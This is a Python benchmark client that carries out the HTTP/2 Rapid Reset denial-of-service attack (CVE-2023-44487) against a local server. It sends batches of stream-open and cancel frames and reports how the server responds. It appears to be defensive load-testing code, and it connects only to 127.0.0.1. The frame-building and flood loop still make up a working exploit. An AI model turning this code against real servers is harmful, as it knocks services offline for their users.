"""Rapid Reset (CVE-2023-44487) on one cleartext HTTP/2 connection; prints a JSON summary.

    python3 bench/clients/rapid_reset.py PORT [--streams 100000] [--batch 100]

Only the standard library: frames are written by hand. After the preface
and an empty SETTINGS it sends, per stream, a HEADERS frame (GET /, ending
the stream) immediately followed by RST_STREAM CANCEL, ``--batch`` streams
per write, and reads whatever the server sends in between (so it never
blocks on a full receive buffer). It stops after ``--streams`` resets, when
the server closes the connection, or after ``--timeout`` seconds; then it
sends a PING and waits for its ACK (or the close), so the time reported is
how long the server took to get through everything it was sent. It reports
how many resets it sent, who ended the connection, the GOAWAY error code it
got (if any) and that time. Only ever connects to 127.0.0.1.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HPACK: :method GET, :scheme http, :path / (static indices 2, 6, 4), then
# :authority as a literal without indexing (name index 1).
_BLOCK = b"\x82\x86\x84\x01\x09127.0.0.1"
_GOAWAY = 0x7
_PING = 0x6
_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream_id)
        + payload
    )


def pair(stream_id: int) -> bytes:
    headers = frame(0x1, 0x4 | 0x1, stream_id, _BLOCK)  # END_HEADERS | END_STREAM
    reset = frame(0x3, 0x0, stream_id, struct.pack(">I", 0x8))  # CANCEL
    return headers + reset


class Reader:
    """Follows the server's frames just far enough to spot a GOAWAY."""

    def __init__(self) -> None:
        self.buf = b""
        self.goaway: int | None = None
        self.ping_acked = False
        self.received = 0

    def feed(self, data: bytes) -> None:
        self.received += len(data)
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            if self.buf[3] == _GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(self.buf[13:17], "big")
            elif self.buf[3] == _PING and self.buf[4] & 0x1:
                self.ping_acked = True
            self.buf = self.buf[9 + length :]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--streams", type=int, default=100_000)
    parser.add_argument("--batch", type=int, default=100)
    parser.add_argument("--timeout", type=float, default=60.0)
    args = parser.parse_args()

    sock = socket.create_connection(("127.0.0.1", args.port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    reader = Reader()
    started = time.monotonic()
    sent = 0
    closed_by = "client"

    def drain() -> bool:
        """Read what is there without blocking; False once the server has closed."""
        sock.setblocking(False)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    return False
                reader.feed(data)
        except BlockingIOError:
            return True
        except OSError:
            return False
        finally:
            sock.setblocking(True)

    try:
        sock.sendall(PREFACE + frame(0x4, 0x0, 0, b""))
        stream_id = 1
        while sent < args.streams and time.monotonic() - started < args.timeout:
            count = min(args.batch, args.streams - sent)
            sock.sendall(b"".join(pair(stream_id + 2 * i) for i in range(count)))
            stream_id += 2 * count
            sent += count
            if not drain():
                closed_by = "server"
                break
    except OSError:
        closed_by = "server"
    if closed_by == "client":
        # A PING is answered only once everything sent before it has been read.
        sock.settimeout(args.timeout)
        try:
            sock.sendall(frame(_PING, 0x0, 0, b"rr-done!"))
            while not reader.ping_acked:
                data = sock.recv(65536)
                if not data:
                    closed_by = "server"
                    break
                reader.feed(data)
        except OSError:
            closed_by = "server"
    elapsed = time.monotonic() - started
    sock.close()
    code = reader.goaway
    print(
        json.dumps(
            {
                "resets_sent": sent,
                "seconds": round(elapsed, 3),
                "closed_by": closed_by,
                "goaway": None if code is None else _CODES.get(code, str(code)),
                "bytes_received": reader.received,
            }
        )
    )


if __name__ == "__main__":
    main()
